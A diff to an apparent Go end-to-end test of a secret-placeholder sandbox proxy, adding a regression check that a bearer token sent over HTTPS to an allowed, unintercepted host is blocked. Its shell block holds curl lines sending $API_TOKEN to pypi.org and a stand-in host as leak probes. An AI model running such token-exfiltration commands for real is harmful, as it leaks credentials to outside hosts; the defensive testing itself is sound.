@@ -49,6 +49,7 @@ cat /tmp/headers /tmp/body
 curl -sS --max-time 60 -o /dev/null -w 'leak_registry=%{http_code}\n' -H "Authorization: Bearer $API_TOKEN" https://pypi.org/simple/
 curl -sS --max-time 60 -o /dev/null -w 'leak_query=%{http_code}\n' "https://pypi.org/simple/?t=$API_TOKEN"
 curl -sS --max-time 60 -o /dev/null -w 'leak_plain=%{http_code}\n' -H "X-Token: $API_TOKEN" http://other.example.test/
+curl -sS --max-time 60 -o /dev/null -w 'leak_https_allowed=%{http_code}\n' -H "Authorization: Bearer $API_TOKEN" https://other.example.test/
 true
 `, "E2E_CANARY="+canary)
 	wantCode(t, res, 0)
@@ -61,6 +62,10 @@ true
 	wantKV(t, m, "leak_registry", "403", res)
 	wantKV(t, m, "leak_query", "403", res)
 	wantKV(t, m, "leak_plain", "403", res)
+	// Regression: over HTTPS to an --allow'ed host that nothing intercepted,
+	// the placeholder went through the CONNECT tunnel and was answered 200.
+	// A sandbox holding placeholders has every TLS tunnel intercepted.
+	wantKV(t, m, "leak_https_allowed", "403", res)
 
 	// The bound upstream got the real value, exactly once, in the bound header.
 	got := seenSince(w.api, apiSeen)
